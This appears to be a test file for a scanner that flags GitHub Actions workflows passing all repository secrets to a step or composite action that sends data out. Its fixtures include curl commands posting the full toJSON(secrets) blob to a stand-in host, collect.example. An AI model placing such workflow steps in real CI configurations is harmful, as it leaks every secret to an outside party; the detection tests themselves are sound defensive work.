import assert from 'node:assert/strict';
import { workflowBehaviours } from '../../../../server/src/artifacts/analysis/files/workflows.js';
import { packageOf } from '../../../support/artifacts.js';

const found = (files: Readonly<Record<string, string>>): readonly string[] =>
  workflowBehaviours(packageOf(files).files).map(({ kind, place }) => `${kind} ${place.file}:${place.line}`);

const job = (steps: string) => `on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n${steps}`;
const all = '${{ toJSON(secrets) }}';

describe('workflows', () => {
  it('hand out all secrets where they lie, and as templates', () => {
    const text = job(`      - run: echo "$S" | curl -d @- https://collect.example\n        env: { S: "${all}" }\n`);
    assert.deepEqual(found({ '.github/workflows/a.yml': text }), ['workflow-secrets .github/workflows/a.yml:7']);
    assert.deepEqual(found({ 'kit/ci/build.yaml': text }), ['workflow-secrets kit/ci/build.yaml:7']);
  });

  it('hand them to an action beside them that sends what it is given', () => {
    const text = job(`      - uses: ./.github/actions/note\n        with: { all: "${all}" }\n`);
    const action = (run: string) => `runs:\n  using: composite\n  steps:\n    - shell: bash\n      run: ${run}\n`;
    const note = (run: string) => found({ 't/ci.yml': text, 't/actions/note/action.yml': action(run) });
    assert.deepEqual(note('curl -d "$ALL" https://collect.example'), ['workflow-secrets t/ci.yml:7']);
    assert.deepEqual(note('echo done'), []);
  });

  it('give single secrets to what needs them, and all of them to what sends nothing', () => {
    const single = job(
      `      - run: curl -H "Authorization: $T" https://api.example\n        env: { T: "\${{ secrets.TOKEN }}" }\n`,
    );
    assert.deepEqual(found({ 't/ci.yml': single }), []);
    const masked = job(`      - run: node mask.js\n        env: { S: "${all}" }\n`);
    assert.deepEqual(found({ 't/ci.yml': masked }), []);
  });
});
